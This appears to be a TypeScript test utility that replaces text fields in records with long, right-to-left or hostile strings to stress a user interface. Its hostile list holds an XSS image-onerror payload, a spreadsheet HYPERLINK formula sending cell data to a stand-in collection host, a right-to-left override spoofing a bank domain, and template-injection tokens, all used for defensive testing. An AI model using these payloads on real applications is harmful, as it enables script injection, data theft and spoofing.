import { longName } from '../components/form.tsx';
import { hugeWord } from '../features/longTexts.ts';
import type { PracticeTexts } from './choices.ts';

/**
 * Texts that replace those of records, in turns. Their numbers are prime, so that a property of the next record has
 * another one.
 */
const replacements: Readonly<Record<Exclude<PracticeTexts, 'usual'>, readonly string[]>> = {
  long: [
    longName,
    'The Very Long Established International Property Development Holding of the Gulf',
    'Maximiliana Alexandrina Wilhelmina von Hohenberg-Falkenstein zu Sankt Georgen II',
    'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft',
    hugeWord,
  ],
  hostile: [
    '<b>Not bold</b>',
    '<img src=x onerror="alert(1)">',
    '=HYPERLINK("http://collect.example/?q="&A1,"Mozilla")',
    '\u202emoc.elpmaxe.knab\u202c',
    'Z\u0351\u036b\u0343\u036aa\u0342\u036b\u0353l\u0348\u034dg\u035e\u0361o\u0321\u0321',
    '{{constructor.constructor(1)}} %s %n null',
    'Line\r\nbreak\u2028and\ttab',
  ],
  'right-to-left': [
    'نورة بنت عبد الله الشامسي',
    'شركة النخيل للتطوير العقاري',
    'ליאת כהן אדריכלים',
    'برج Marina Walk 12 (A/3)',
    'طلب صيانة المصعد في البرج الثاني قبل نهاية الأسبوع القادم من فضلكم',
  ],
};

/** Properties that hold a text which people write. Others have a format, or name another record. */
const written = new Set([
  'name',
  'companyName',
  'contactPerson',
  'assignedDeveloperUser',
  'billingEntity',
  'street',
  'city',
  'customer',
  'subject',
  'description',
  'details',
  'reason',
  'user',
  'actor',
  'userName',
]);

const isObject = (value: unknown): value is object =>
  typeof value === 'object' && value !== null && Object.getPrototypeOf(value) === Object.prototype;

/** Gives a record other texts. */
export type Reword = <Row extends object>(row: Row) => Row;

/** Gives records the chosen texts, numbered, so that no two are alike; long emails stay unique. */
export function createReword(texts: Exclude<PracticeTexts, 'usual'>): Reword {
  const list = replacements[texts];
  let count = 0;

  function reword(name: string, value: unknown): unknown {
    if (Array.isArray(value)) return value.map((each) => reword('', each));
    if (isObject(value)) return rewordRow(value);
    if (typeof value !== 'string' || value === '') return value;
    if (texts === 'long' && /email$/i.test(name)) return `${'a-very-long-address-'.repeat(3)}${value}`;
    if (!written.has(name)) return value;
    count += 1;
    return `${list[count % list.length]} ${count}`;
  }

  function rewordRow<Row extends object>(row: Row): Row {
    const entries = Object.entries(row).map(([name, value]) => [name, reword(name, value)]);
    return { ...row, ...Object.fromEntries(entries) };
  }

  return rewordRow;
}
